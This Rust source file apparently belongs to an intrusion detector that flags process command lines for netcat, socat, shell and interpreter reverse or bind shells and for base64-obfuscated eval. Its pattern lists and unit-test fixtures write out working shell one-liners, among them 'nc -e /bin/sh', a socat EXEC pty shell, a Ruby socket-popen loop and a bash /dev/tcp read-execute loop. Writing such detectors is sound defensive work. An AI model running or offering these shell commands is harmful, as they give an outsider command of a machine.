//! What a command line itself says: code that opens a connection and runs commands, or a tool that was told to
//! connect a shell.

use crate::model::{Process, ProgramKind, Text, program::base_name};

/// What opens a connection or takes one, in the languages that one-liners are written in.
const OPENS: &[&str] = &[
    "/inet/",
    "/inet4/",
    "/inet6/",
    "socket",
    "fsockopen",
    "tcpserver",
    "\"net\"",
    "'net'",
    "net.connect",
];
/// What runs commands.
const RUNS: &[&str] = &[
    "/bin/sh",
    "/bin/bash",
    "popen",
    "proc_open",
    "shell_exec",
    "passthru",
    "system(",
    "subprocess",
    "child_process",
    "exec(",
    "pty.spawn",
];
/// What makes code readable again that was written so that nobody reads it.
const UNHIDES: &[&str] = &[
    "b64decode",
    "base64_decode",
    "decode_base64",
    "fromhex",
    "zlib",
    "marshal",
    "codecs.decode",
    "gzinflate",
    "str_rot13",
    "atob(",
    "'base64'",
    "\"base64\"",
    "unpack('u",
    "unpack(\"u",
    "unpack('h",
    "unpack(\"h",
];
/// What runs code.
const EVALUATES: &[&str] = &["exec(", "eval(", "eval ", "assert("];
/// How a shell names a connection.
const CONNECTIONS: &[&str] = &["/dev/tcp/", "/dev/udp/"];
/// How a shell runs what it reads.
const OBEYS: &[&str] = &[
    "eval ", "|sh", "| sh", "|bash", "| bash", "sh -i", "sh <&", "sh 0<&",
];
/// How a shell goes on with each line that it reads, and how it says that it reads a connection.
const READS: &[&str] = &["while read", "while ifs"];
const FROM_CONNECTION: &[&str] = &[
    "<&",
    "</dev/tcp/",
    "< /dev/tcp/",
    "</dev/udp/",
    "< /dev/udp/",
    "read -u",
];
/// Behind which code stands.
const CODE: &[&str] = &["-c", "-e", "-E", "-r", "-ne", "-le", "--eval", "--execute"];
/// Behind which a command of netcat stands.
const COMMAND: &[&str] = &["--exec", "--sh-exec", "--lua-exec"];
/// The most of a command line that is looked at.
const LONGEST: usize = 8192;

/// What a command line says.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) enum Told {
    /// It runs commands for whoever is at the other end.
    Commands(String),
    /// It runs code that was written so that nobody reads it.
    HiddenCode(String),
}

/// Returns what the command line of `process` says it runs for whoever is at the other end, when it does.
pub(super) fn runs_commands(process: &Process) -> Option<Told> {
    let arguments = process.cmdline.known()?;
    let base = base_name(&process.name);
    let mut rest = arguments.get(1..)?;
    if base == "busybox" {
        let is_netcat = |name: Option<&Text>| name.is_some_and(|name| name.ends_with("nc"));
        if is_netcat(rest.first()) {
            rest = rest.get(1..)?;
        } else if !is_netcat(arguments.first()) {
            return None;
        }
        return connects_shell(rest).map(Told::Commands);
    }
    match ProgramKind::of(&process.name) {
        ProgramKind::Connector => connects_shell(rest).map(Told::Commands),
        ProgramKind::Interpreter => one_liner(base, rest),
        ProgramKind::Shell => obeys_connection(rest).map(Told::Commands),
        ProgramKind::Forwarder | ProgramKind::Tunnel | ProgramKind::Ordinary => None,
    }
}

/// The shell that netcat or socat was told to connect.
fn connects_shell(arguments: &[Text]) -> Option<String> {
    let before = [None].into_iter().chain(arguments.iter().map(Some));
    arguments.iter().zip(before).find_map(|(argument, option)| {
        let told = option.is_some_and(|option| takes_command(option)) && names_shell(argument, 1)
            || argument
                .split_once('=')
                .is_some_and(|(option, command)| takes_command(option) && names_shell(command, 1))
            || is_address_of_shell(argument);
        told.then(|| argument.to_string())
    })
}

/// `-e`, `-c`, several letters that end in one of them, or its long form.
fn takes_command(option: &str) -> bool {
    COMMAND.contains(&option)
        || option.strip_prefix('-').is_some_and(|letters| {
            letters.ends_with(['e', 'c'])
                && letters.bytes().all(|letter| letter.is_ascii_alphabetic())
        })
}

/// socat's `EXEC:/bin/sh,pty`, or `SYSTEM:` with a shell in it.
fn is_address_of_shell(argument: &str) -> bool {
    let Some((kind, command)) = argument.split_once(':') else {
        return false;
    };
    let words = match kind.to_ascii_lowercase().as_str() {
        "exec" => 1,
        "system" | "shell" => usize::MAX,
        _ => return false,
    };
    names_shell(command, words)
}

/// Whether one of the first `words` of a command is a shell.
fn names_shell(command: &str, words: usize) -> bool {
    let all = command.split([' ', ',', ';', '\'', '"']);
    all.filter(|word| !word.is_empty()).take(words).any(|word| {
        let file = word.rsplit('/').next().unwrap_or(word);
        ProgramKind::of(file) == ProgramKind::Shell
    })
}

/// Code on the command line of an interpreter that opens a connection and runs commands, or that hides what it does.
fn one_liner(base: &str, arguments: &[Text]) -> Option<Told> {
    let is_awk = base.ends_with("awk");
    if !is_awk && !has_code(arguments) {
        return None;
    }
    let (code, looked_at) = code(arguments)?;
    let has = |list: &[&str]| list.iter().any(|word| looked_at.contains(word));
    // Awk reads a connection and a command by the same words: it takes both to be a shell.
    let runs = has(RUNS) || is_awk && looked_at.matches("|& getline").count() > 1;
    if has(OPENS) && runs {
        Some(Told::Commands(code))
    } else if has(EVALUATES) && has(UNHIDES) {
        Some(Told::HiddenCode(code))
    } else {
        None
    }
}

/// Code on the command line of a shell that runs what a connection says.
fn obeys_connection(arguments: &[Text]) -> Option<String> {
    if !has_code(arguments) {
        return None;
    }
    let (code, looked_at) = code(arguments)?;
    let has = |list: &[&str]| list.iter().any(|word| looked_at.contains(word));
    let obeys = has(OBEYS) || has(READS) && has(FROM_CONNECTION);
    (has(CONNECTIONS) && obeys).then_some(code)
}

fn has_code(arguments: &[Text]) -> bool {
    let mut arguments = arguments.iter();
    arguments.any(|argument| CODE.contains(&argument.as_str()))
}

/// The arguments in a line, and as much of that as is looked at, in lower case.
fn code(arguments: &[Text]) -> Option<(String, String)> {
    let code = arguments.join(" ");
    let mut end = code.len().min(LONGEST);
    while !code.is_char_boundary(end) {
        end -= 1;
    }
    let looked_at = code.get(..end)?.to_ascii_lowercase();
    Some((code, looked_at))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::{Fact, fixture};

    fn says(file: &str, arguments: &[&str]) -> bool {
        let process = Process {
            cmdline: Fact::Known(arguments.iter().map(|one| Text::from(*one)).collect()),
            ..fixture::process(file, 7)
        };
        runs_commands(&process).is_some()
    }

    #[test]
    fn a_tool_that_was_told_to_connect_a_shell_is_known_before_anybody_calls() {
        assert!(says(
            "nc.traditional",
            &["nc", "-l", "-p", "1", "-e", "/bin/sh"]
        ));
        assert!(says("nc.traditional", &["nc", "-lvpe", "/bin/bash"]));
        assert!(says("ncat", &["ncat", "-l", "--exec", "/bin/bash -i"]));
        assert!(says("ncat", &["ncat", "-l", "--sh-exec=bash"]));
        assert!(says(
            "socat",
            &["socat", "TCP-LISTEN:1", "EXEC:'bash -li',pty"]
        ));
        assert!(says(
            "socat",
            &["socat", "TCP-LISTEN:1", "system:exec sh -i"]
        ));
        assert!(says(
            "busybox",
            &["busybox", "nc", "-l", "-p", "1", "-e", "sh"]
        ));
    }

    #[test]
    fn one_that_connects_anything_else_is_not() {
        assert!(!says("nc.openbsd", &["nc", "-l", "1"]));
        assert!(!says("ncat", &["ncat", "-l", "-e", "/bin/cat"]));
        assert!(!says("socat", &["socat", "TCP-LISTEN:1", "TCP:sh:22"]));
        assert!(!says("socat", &["socat", "TCP-LISTEN:1", "EXEC:/bin/cat"]));
        assert!(!says("busybox", &["busybox", "sh", "-c", "sh"]));
    }

    #[test]
    fn code_that_opens_a_connection_and_runs_commands_is_told_from_code_that_does_one() {
        let ruby =
            "s = TCPSocket.new(1); while c = s.gets; IO.popen(c) { |i| s.print i.read }; end";
        assert!(says("ruby3.1", &["ruby", "-rsocket", "-e", ruby]));
        let awk = "BEGIN { s = \"/inet/tcp/0/h/1\"; s |& getline c; c |& getline }";
        assert!(says("gawk", &["gawk", awk]));
        assert!(!says(
            "gawk",
            &["gawk", "BEGIN { \"/inet/tcp/0/h/80\" |& getline }"]
        ));
        assert!(!says(
            "python3.11",
            &["python3", "-c", "import socket; socket.create_server(1)"]
        ));
        assert!(!says("python3.11", &["python3", "-c", "import subprocess"]));
        assert!(!says(
            "python3.11",
            &["python3", "/srv/socket.py", "exec()"]
        ));
        assert!(!says("bash", &["bash", "-c", "exec 3<>/dev/tcp/h/1"]));
        let waits = "until echo >/dev/tcp/db/5432; do sleep 1; done";
        assert!(!says("bash", &["bash", "-c", waits]));
        let obeys = "exec 5<>/dev/tcp/h/1; cat <&5 | while read line; do $line >&5; done";
        assert!(says("bash", &["bash", "-c", obeys]));
    }

    #[test]
    fn code_that_hides_what_it_does_is_told() {
        let hides = |file, code| {
            let process = Process {
                cmdline: Fact::Known(["x", "-c", code].map(Text::from).into()),
                ..fixture::process(file, 7)
            };
            matches!(runs_commands(&process), Some(Told::HiddenCode(_)))
        };
        assert!(hides(
            "python3.11",
            "import base64; exec(base64.b64decode('aQ=='))"
        ));
        assert!(hides(
            "perl",
            "use MIME::Base64; eval decode_base64('aQ==')"
        ));
        assert!(!hides(
            "python3.11",
            "import base64; print(base64.b64decode('aQ=='))"
        ));
        assert!(!hides("python3.11", "exec(open('/srv/app.py').read())"));
    }
}
